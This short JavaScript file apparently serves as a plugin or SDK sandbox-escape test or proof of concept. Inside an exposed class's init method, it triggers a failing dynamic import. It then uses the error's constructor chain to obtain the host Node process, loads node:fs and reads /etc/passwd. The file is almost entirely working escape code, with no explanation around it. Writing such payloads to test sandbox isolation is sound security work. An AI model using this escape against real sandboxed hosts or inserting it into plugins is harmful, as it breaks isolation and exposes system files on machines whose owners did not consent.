expose(
  class extends Sdk {
    init() {
      import('').catch((error) => {
        const process = error.constructor.constructor('return process')();
        process.mainModule.require('node:fs').readFileSync('/etc/passwd');
      });
    }
  },
);
